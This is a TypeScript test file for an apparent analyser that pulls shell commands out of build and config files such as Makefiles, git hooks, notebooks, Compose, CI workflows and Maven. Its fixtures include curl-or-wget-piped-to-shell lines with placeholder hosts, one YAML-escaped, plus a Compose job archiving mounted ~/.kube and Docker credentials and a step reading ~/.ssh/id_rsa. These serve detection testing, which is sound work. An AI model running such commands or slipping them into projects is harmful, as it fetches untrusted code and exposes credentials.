import { beforeAll, describe, expect, it } from 'vitest';
import { buildFileUnits, configCodeSpans, withoutJsonComments } from '../../src/analysis/build-files.js';
import { LineMap } from '../../src/analysis/lines.js';
import { loadYaml } from '../../src/analysis/yaml-lib.js';

beforeAll(loadYaml);

const units = (path: string, text: string) =>
  (buildFileUnits(path, text, new LineMap(text)) ?? []).map((u) => ({
    lang: u.lang,
    text: u.text,
    line: u.base !== undefined ? new LineMap(text).position(u.base).line : u.region?.startLine,
  }));

describe('build and notebook files as code', () => {
  it('Makefile recipes: prefixes dropped, continuations joined, comments and rules skipped', () => {
    const mk = 'all: build\n\t@echo hi\n\t-rm -rf out \\\n\t  tmp\n\t# a comment\nbuild:\n\tgo build ./...\n';
    expect(units('tools/Makefile', mk)).toEqual([
      { lang: 'shell', text: 'echo hi', line: 2 },
      { lang: 'shell', text: 'rm -rf out \\\n\t  tmp', line: 3 },
      { lang: 'shell', text: 'go build ./...', line: 7 },
    ]);
    expect(units('x/rules.mk', '\tmake -C sub\n')).toHaveLength(1);
  });

  it("aider's lint and test commands (a language prefix dropped), not its other settings", () => {
    const yml =
      'model: sonnet\nauto-lint: true\nlint-cmd:\n  - "python: ruff check --fix"\n  - "javascript: npx eslint"\ntest-cmd: pytest -q\n';
    expect(units('.aider.conf.yml', yml)).toEqual([
      { lang: 'shell', text: 'ruff check --fix', line: 4 },
      { lang: 'shell', text: 'npx eslint', line: 5 },
      { lang: 'shell', text: 'pytest -q', line: 6 },
    ]);
    expect(units('.aider.conf.yml', 'model: sonnet\ndark-mode: true\n')).toEqual([]);
  });

  it("lefthook's hook commands and jobs, YAML escapes decoded", () => {
    const yml =
      'pre-commit:\n  parallel: true\n  commands:\n    fmt:\n      run: npx prettier --check {staged_files}\npost-checkout:\n  jobs:\n    - name: deps\n      run: "\\x63url -s https://x.test/s | sh"\n';
    expect(units('lefthook.yml', yml)).toEqual([
      { lang: 'shell', text: 'npx prettier --check {staged_files}', line: 5 },
      { lang: 'shell', text: 'curl -s https://x.test/s | sh', line: 9 },
    ]);
  });

  it("pre-commit's local hooks: entry with its args as one command; remote, pygrep, fail and docker hooks are not", () => {
    const yml = [
      'repos:',
      '  - repo: https://github.com/psf/black',
      '    rev: 24.8.0',
      '    hooks:',
      '      - id: black',
      '        entry: this is not run here',
      '  - repo: local',
      '    hooks:',
      '      - id: guard',
      '        language: python',
      '        entry: python tools/guard.py',
      '        args: ["--mode", "strict mode"]',
      '      - id: no-pipes',
      '        language: pygrep',
      "        entry: 'curl .* \\| sh'",
      '      - id: rej',
      '        language: fail',
      '        entry: remove the .rej files',
      '      - id: lint',
      '        language: script',
      '        entry: tools/lint.sh',
    ].join('\n');
    expect(units('.pre-commit-config.yaml', yml)).toEqual([
      { lang: 'shell', text: "python tools/guard.py --mode 'strict mode'", line: 11 },
      { lang: 'shell', text: './tools/lint.sh', line: 21 },
    ]);
  });

  it('package.json scripts, each at the line of its string', () => {
    const pkg = '{\n  "scripts": {\n    "build": "tsc",\n    "postinstall": "node setup.js"\n  }\n}\n';
    expect(units('package.json', pkg)).toEqual([
      { lang: 'shell', text: 'tsc', line: 3 },
      { lang: 'shell', text: 'node setup.js', line: 4 },
    ]);
    expect(units('package.json', '{not json')).toEqual([]);
  });

  it('notebook code cells: Python, `!` lines as shell, %%bash cells as shell; markdown cells skipped', () => {
    const nb = JSON.stringify({
      cells: [
        { cell_type: 'markdown', source: ['# Title\n', '!not code\n'] },
        {
          cell_type: 'code',
          source: ['!pip install pandas==2.2.3\n', 'import pandas as pd\n', '%matplotlib inline\n'],
        },
        { cell_type: 'code', source: '%%bash\necho from bash\n' },
      ],
    });
    expect(units('a/b.ipynb', nb).map(({ lang, text }) => ({ lang, text }))).toEqual([
      { lang: 'python', text: '\nimport pandas as pd\n\n' },
      { lang: 'shell', text: 'pip install pandas==2.2.3' },
      { lang: 'shell', text: 'echo from bash\n' },
    ]);
  });

  it('notebook magics: installers, %sx and shell assignments as shell, %run of a script, %load/%run of a URL as fetched code', () => {
    const nb = JSON.stringify({
      cells: [
        {
          cell_type: 'code',
          source: [
            '%%capture\n',
            '%pip install -q "https://files.vendor.example/x-latest-py3-none-any.whl" pandas==2.2.2\n',
            '%conda install -y numpy\n',
            'files = !ls data\n',
            '!!wget -q https://get.example.org/setup.sh && bash setup.sh\n',
            '%sx uname -a\n',
            '%run -i tools/prep.py --fast\n',
            '%load https://gist.example.org/raw/helpers.py\n',
            '%matplotlib inline\n',
          ],
        },
      ],
    });
    expect(units('a/b.ipynb', nb).map(({ lang, text }) => ({ lang, text }))).toEqual([
      {
        lang: 'python',
        text: '\n\n\n\n\n\n\nimport urllib.request; exec(urllib.request.urlopen("https://gist.example.org/raw/helpers.py").read())\n\n',
      },
      {
        lang: 'shell',
        text: 'pip install -q "https://files.vendor.example/x-latest-py3-none-any.whl" pandas==2.2.2',
      },
      { lang: 'shell', text: 'conda install -y numpy' },
      { lang: 'shell', text: 'ls data' },
      { lang: 'shell', text: 'wget -q https://get.example.org/setup.sh && bash setup.sh' },
      { lang: 'shell', text: 'uname -a' },
      { lang: 'shell', text: 'python tools/prep.py --fast' },
    ]);
  });

  it('devcontainer.json lifecycle commands: strings, argv arrays and named objects, read through comments', () => {
    const dc = [
      '{',
      '  // Dev Containers read JSON with comments',
      '  "name": "api", /* block comment, "quoted" */',
      '  "initializeCommand": "bash .devcontainer/host-prep.sh",',
      '  "postCreateCommand": ["npm", "ci", "--ignore-scripts"],',
      '  "postStartCommand": { "db": "docker compose up -d db", "warm": ["make", "warm cache"], },',
      '}',
    ].join('\n');
    expect(units('.devcontainer/devcontainer.json', dc)).toEqual([
      { lang: 'shell', text: 'bash .devcontainer/host-prep.sh', line: 4 },
      { lang: 'shell', text: 'npm ci --ignore-scripts', line: 5 },
      { lang: 'shell', text: 'docker compose up -d db', line: 6 },
      { lang: 'shell', text: "make 'warm cache'", line: 6 },
    ]);
    expect(
      units('.devcontainer/python/devcontainer.json', '{"onCreateCommand": "pip install -e ."}'),
    ).toHaveLength(1);
    expect(units('.devcontainer.json', '{"image": "node:20"}')).toEqual([]);
    expect(units('docs/devcontainer.json', '{"postCreateCommand": "x"}')).toEqual([]);
  });

  it('justfile: recipe lines and backtick assignments, not settings or plain assignments', () => {
    const jf = [
      'set shell := ["bash", "-c"]',
      'rev := `git rev-parse HEAD`',
      'name := "x"',
      '',
      '# builds',
      'build target="x":',
      '    @echo {{target}}',
      '    -cargo build',
      '',
      'other: build',
      '\tmake all',
    ].join('\n');
    expect(units('justfile', jf)).toEqual([
      { lang: 'shell', text: 'git rev-parse HEAD', line: 2 },
      { lang: 'shell', text: 'echo {{target}}', line: 7 },
      { lang: 'shell', text: 'cargo build', line: 8 },
      { lang: 'shell', text: 'make all', line: 11 },
    ]);
  });

  it('justfile: a shebang recipe is one program in the language its shebang names, `{{…}}` filled', () => {
    const jf = [
      'host := "api.example.test"',
      '',
      'check: _probe',
      '    echo done',
      '',
      '_probe:',
      '    #!/usr/bin/env python3',
      '    import os',
      '    if True:',
      '        print("{{host}}", os.getcwd())',
      '',
      'after:',
      '    echo after',
    ].join('\n');
    expect(units('justfile', jf)).toEqual([
      { lang: 'shell', text: 'echo done', line: 4 },
      {
        lang: 'python',
        text: '#!/usr/bin/env python3\nimport os\nif True:\n    print("api.example.test", os.getcwd())\n',
        line: 7,
      },
      { lang: 'shell', text: 'echo after', line: 13 },
    ]);
  });

  it('VS Code tasks: shell commands with their args, process tasks as argv, provider tasks as their tool', () => {
    const tasks = JSON.stringify({
      tasks: [
        { label: 'a', type: 'shell', command: 'npm run build', args: ['--', '--watch'] },
        { label: 'b', type: 'process', command: 'bash', args: ['-c', 'echo hi'] },
        { label: 'c', type: 'npm', script: 'test' },
        { label: 'd', type: 'npm', script: 'dev:watch', path: 'packages/web/' },
        { label: 'e', type: 'gulp', task: 'build' },
        { label: 'f', type: 'shell', command: 'make', options: { cwd: '${workspaceFolder}/native' } },
        { label: 'g', type: 'typescript', tsconfig: 'tsconfig.json' },
        { label: 'h', type: 'shell', command: 'ls', options: { cwd: '/tmp' } },
      ],
    });
    expect(units('.vscode/tasks.json', tasks).map((u) => u.text)).toEqual([
      'npm run build -- --watch',
      "bash -c 'echo hi'",
      'npm run test',
      'cd packages/web && npm run dev:watch',
      'gulp build',
      'cd native && make',
      'ls',
    ]);
  });

  it('JSON comments and trailing commas are blanked, strings that look like them are kept, offsets stay', () => {
    const text = '{"a": "http://x//y", /* c */ "b": [1, 2,], // end\n}';
    const out = withoutJsonComments(text);
    expect(out).toHaveLength(text.length);
    expect(JSON.parse(out)).toEqual({ a: 'http://x//y', b: [1, 2] });
    expect(withoutJsonComments('{"a": 1, // trailing\n}')).toMatch(/^\{"a": 1 {2}/);
  });

  it('other files are not build files', () => {
    expect(buildFileUnits('README.md', '\tindented\n', new LineMap('\tindented\n'))).toBeUndefined();
  });
});

describe('configurations launch tools run', () => {
  const texts = (path: string, text: string) => units(path, text).map((u) => u.text);

  it('Compose: sh -c scripts, string commands, argv lists and healthchecks; $$ unescaped', () => {
    const compose = [
      'services:',
      '  db:',
      '    image: postgres:16',
      '    healthcheck:',
      '      test: ["CMD-SHELL", "pg_isready -U $$POSTGRES_USER"]',
      '  worker:',
      '    image: python:3.12',
      '    command: python -m worker --queue "high prio"',
      '  seed:',
      '    image: alpine',
      '    entrypoint: ["/bin/sh", "-c"]',
      '    command:',
      '      - |',
      '        echo $$HOME',
      '  api:',
      '    image: api',
      '    entrypoint: ["/app/start", "--port", "8080"]',
      '',
    ].join('\n');
    expect(units('compose.yaml', compose)).toEqual([
      { lang: 'shell', text: 'pg_isready -U $POSTGRES_USER', line: 5 },
      { lang: 'shell', text: 'python -m worker --queue "high prio"', line: 8 },
      { lang: 'shell', text: 'echo $HOME\n', line: 13 },
      { lang: 'shell', text: '/app/start --port 8080', line: 17 },
    ]);
    expect(units('compose.yaml', 'services: [not, a, map]\n')).toEqual([]);
    expect(units('compose.yaml', 'a: *unknown\n')).toEqual([]);
  });

  it('Compose: a home folder mounted into the container is read as that folder; environment values are variables', () => {
    const compose = [
      'services:',
      '  sync:',
      '    image: alpine',
      '    volumes:',
      '      - ${HOME}/.kube:/cfg/kube:ro',
      '      - type: bind',
      '        source: ~/.docker',
      '        target: /cfg/docker',
      '      - cache:/cfg/cache',
      '    environment:',
      '      - SINK=https://sink.example',
      '      - FROM_HOST=${TOKEN}',
      '    command: sh -c "tar c /cfg/kube /cfg/docker/config.json /cfg/cache /cfg/kubeconfig"',
      '',
    ].join('\n');
    const [u] = buildFileUnits('ops/docker-compose.dev.yml', compose, new LineMap(compose))!;
    expect(u!.text).toBe('tar c ~/.kube ~/.docker/config.json /cfg/cache /cfg/kubeconfig');
    expect(u!.vars).toEqual({ SINK: 'https://sink.example' });
  });

  it('Compose under another name is recognised by its shape; other YAML is not', () => {
    const stack = 'services:\n  app:\n    image: nginx\n    command: nginx -g "daemon off;"\n';
    expect(texts('deploy/stack.yml', stack)).toEqual(['nginx -g "daemon off;"']);
    expect(buildFileUnits('config/app.yml', 'name: x\nservices: 3\n', new LineMap(''))).toBeUndefined();
  });

  it('go:generate directives: argv words quoted, -command aliases expanded, other comments ignored', () => {
    const go = [
      'package api',
      '',
      '//go:generate -command gen go run ./tools/gen',
      '//go:generate gen -out "z gen.go"',
      '//go:generate stringer -type=Kind | sh',
      '// go:generate not-a-directive',
      '',
    ].join('\n');
    expect(units('api/gen.go', go)).toEqual([
      { lang: 'shell', text: "go run ./tools/gen -out 'z gen.go'", line: 4 },
      { lang: 'shell', text: "stringer -type=Kind '|' sh", line: 5 },
      // The Go code itself, analysed as every Go file is (src/analysis/code/go/).
      { lang: 'go', text: go, line: 1 },
    ]);
    expect(buildFileUnits('api/x.go', 'package api\n', new LineMap(''))).toBeUndefined();
  });

  it('composer.json scripts: shell commands, @php and @composer forms; callbacks and script references skipped', () => {
    const composer = JSON.stringify(
      {
        scripts: {
          'post-install-cmd': ['@php artisan migrate', 'App\\Hooks::run', '@test'],
          'post-update-cmd': 'bash bin/refresh.sh',
          test: '@composer exec phpunit',
        },
      },
      null,
      2,
    );
    expect(texts('composer.json', composer)).toEqual([
      'php artisan migrate',
      'bash bin/refresh.sh',
      'composer exec phpunit',
    ]);
  });

  it('workflow run steps in their shell, ${{ }} opaque, plain env values as variables', () => {
    const wf = [
      'env:',
      '  REGION: eu-west-1',
      'jobs:',
      '  build:',
      '    runs-on: ubuntu-latest',
      '    env:',
      '      TOKEN: ${{ secrets.TOKEN }}',
      '    steps:',
      '      - uses: actions/checkout@v4',
      '      - run: echo "${{ github.ref }}" $REGION',
      '      - shell: pwsh',
      '        run: Get-ChildItem',
      '      - name: py',
      '        shell: python',
      '        run: print(1)',
      '',
    ].join('\n');
    const got = buildFileUnits('.github/workflows/ci.yml', wf, new LineMap(wf))!;
    expect(got.map((u) => [u.lang, u.text])).toEqual([
      ['shell', 'echo "${__workflow_expression}" $REGION'],
      ['powershell', 'Get-ChildItem'],
      ['python', 'print(1)'],
    ]);
    expect(got[0]!.vars).toEqual({ REGION: 'eu-west-1' });
  });

  it('tox.ini: commands of testenv sections, continuation lines, a leading - dropped', () => {
    const tox = [
      '[tox]',
      'envlist = py312',
      '',
      '[testenv]',
      'deps = pytest',
      'commands =',
      '    pytest {posargs}',
      '    - coverage report',
      'commands_pre = python scripts/prepare.py',
      '',
      '[flake8]',
      'commands = not-a-tox-command',
      '',
    ].join('\n');
    expect(units('tox.ini', tox)).toEqual([
      { lang: 'shell', text: 'pytest {posargs}', line: 7 },
      { lang: 'shell', text: 'coverage report', line: 8 },
      { lang: 'shell', text: 'python scripts/prepare.py', line: 9 },
    ]);
  });

  it('the commands of a workflow or Compose file are spans the data reading leaves out', () => {
    const wf = 'jobs:\n  a:\n    steps:\n      - name: Read the key\n        run: cat ~/.ssh/id_rsa\n';
    expect(configCodeSpans('.github/workflows/x.yml', wf).map(([s, e]) => wf.slice(s, e).trim())).toEqual([
      'cat ~/.ssh/id_rsa',
    ]);
    expect(configCodeSpans('notes.yml', 'name: x\nsteps: []\n')).toEqual([]);
    // A workflow `act -W` names outside .github/workflows is recognised by its shape.
    expect(configCodeSpans('ci/nightly.yml', wf)).toHaveLength(1);
  });
});

describe('commands in more ecosystems’ build configurations', () => {
  const codes = (path: string, text: string) => units(path, text).map((u) => u.text);

  it('MSBuild Exec tasks, entities decoded', () => {
    const xml =
      '<Project>\n  <Target Name="Gen" BeforeTargets="Build">\n    <Exec Command="curl -s https://h.example/x &amp;&amp; echo &quot;ok&quot;" />\n  </Target>\n</Project>\n';
    expect(codes('Directory.Build.targets', xml)).toEqual(['curl -s https://h.example/x && echo "ok"']);
    expect(codes('src/App/App.csproj', '<Project Sdk="Microsoft.NET.Sdk" />')).toEqual([]);
  });
  it('Maven exec plugin executable with its arguments, and antrun exec', () => {
    const pom = [
      '<plugin><artifactId>exec-maven-plugin</artifactId><executions><execution><configuration>',
      '  <executable>bash</executable>',
      '  <arguments><argument>-c</argument><argument>curl -s https://h.example/b | sh</argument></arguments>',
      '</configuration></execution></executions></plugin>',
      '<target><exec executable="git"><arg value="describe"/><arg line="--tags --always"/></exec></target>',
    ].join('\n');
    expect(codes('pom.xml', pom)).toEqual([
      "bash -c 'curl -s https://h.example/b | sh'",
      'git describe --tags --always',
    ]);
  });
  it('Deno tasks, Taskfile cmds and Nix shell hooks', () => {
    expect(
      codes(
        'deno.json',
        '{ "tasks": { "dev": "deno run -A main.ts", "gen": { "command": "deno run gen.ts" } } }',
      ),
    ).toEqual(['deno run -A main.ts', 'deno run gen.ts']);
    const taskfile =
      "version: '3'\ntasks:\n  build:\n    cmds:\n      - go build ./...\n      - cmd: 'echo done'\n      - task: lint\n    desc: Build\n";
    expect(codes('Taskfile.yml', taskfile)).toEqual(['go build ./...', 'echo done']);
    const nix =
      "{ pkgs ? import <nixpkgs> {} }:\npkgs.mkShell {\n  shellHook = ''\n    export PATH=$PWD/bin:$PATH\n  '';\n}\n";
    expect(codes('shell.nix', nix).map((c) => c.trim())).toEqual(['export PATH=$PWD/bin:$PATH']);
  });
});
